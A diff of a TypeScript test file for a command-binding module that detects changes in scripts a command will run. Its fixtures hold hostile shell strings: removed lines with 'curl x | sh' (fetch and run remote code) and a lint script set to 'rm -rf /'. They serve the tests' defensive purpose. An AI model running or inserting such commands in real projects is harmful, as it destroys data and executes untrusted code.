@@ -5,7 +5,7 @@ import { loadShellParser } from "@slashi/core";
 import { tempDir } from "@slashi/test-utils";
 import fc from "fast-check";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { CODE_LOADING_VARIABLES } from "@slashi/core";
+import { CODE_LOADING_VARIABLES } from "@slashi/core/internal";
 import { commandBinding, executedContent } from "./binding.js";
 import { readBindingFile } from "./remembered.js";
 import { codeLoadingVariables, type ReadText } from "./env-binding.js";
@@ -22,6 +22,7 @@ function files(map: Record<string, string>): (file: string) => string | undefine
 }
 
 const pkg = (scripts: Record<string, string>): string => JSON.stringify({ name: "app", scripts });
+const APP_JS = { "/home/dev/app/app.js": "1" };
 
 describe("commandBinding", () => {
   it("binds npm test to the test script and its pre and post scripts", () => {
@@ -45,7 +46,7 @@ describe("commandBinding", () => {
     const after = commandBinding(
       ["pnpm", "run", "build"],
       SITE,
-      files({ "/home/dev/app/package.json": pkg({ build: "tsc && curl x | sh" }) }),
+      files({ "/home/dev/app/package.json": pkg({ build: "tsc && curl -o x https://x" }) }),
     );
     expect(before.ok && after.ok).toBe(true);
     if (before.ok && after.ok) {
@@ -58,12 +59,12 @@ describe("commandBinding", () => {
     const a = commandBinding(
       ["yarn", "start"],
       SITE,
-      files({ "/home/dev/app/package.json": pkg({ start: "node .", lint: "eslint" }) }),
+      files({ "/home/dev/app/package.json": pkg({ start: "node app.js", lint: "eslint" }), ...APP_JS }),
     );
     const b = commandBinding(
       ["yarn", "start"],
       SITE,
-      files({ "/home/dev/app/package.json": pkg({ start: "node .", lint: "rm -rf /" }) }),
+      files({ "/home/dev/app/package.json": pkg({ start: "node app.js", lint: "rm -rf /" }), ...APP_JS }),
     );
     expect(a.ok && b.ok && a.digest === b.digest).toBe(true);
   });
@@ -175,7 +176,7 @@ describe("commandBinding", () => {
     const rcChanged = commandBinding(
       ["bash", "--rcfile", "rc", "x.sh"],
       SITE,
-      files({ "/home/dev/app/rc": "curl x | sh", "/home/dev/app/x.sh": "echo x" }),
+      files({ "/home/dev/app/rc": "curl -o x https://x", "/home/dev/app/x.sh": "echo x" }),
     );
     expect(withRc.ok && rcChanged.ok && withRc.digest !== rcChanged.digest).toBe(true);
     expect(commandBinding(["node", "-r", "./hook.js", "x.js"], SITE, read)).toMatchObject({ ok: false });
@@ -228,7 +229,7 @@ describe("commandBinding", () => {
           "/home/dev/app/build.sh": "set -e\n. ./lib/env.sh\nmake",
           "/home/dev/app/lib/env.sh": "X=1",
         };
-        const after = { ...before, "/home/dev/app/lib/env.sh": "curl x | sh" };
+        const after = { ...before, "/home/dev/app/lib/env.sh": "curl -o x https://x" };
         expect(digestOf(argv, before)).not.toBe(digestOf(argv, after));
         const nested = {
           ...before,
@@ -283,7 +284,7 @@ describe("commandBinding", () => {
       };
       for (const changed of ["build", "test", "lint", "prelint"]) {
         expect(digestOf(["npm", "run", "ci"], pkgFile(scripts))).not.toBe(
-          digestOf(["npm", "run", "ci"], pkgFile({ ...scripts, [changed]: "curl x | sh" })),
+          digestOf(["npm", "run", "ci"], pkgFile({ ...scripts, [changed]: "curl -o x https://x" })),
         );
       }
       expect(executedContent(["npm", "run", "ci"], CWD, files(pkgFile(scripts)))).toMatchObject({
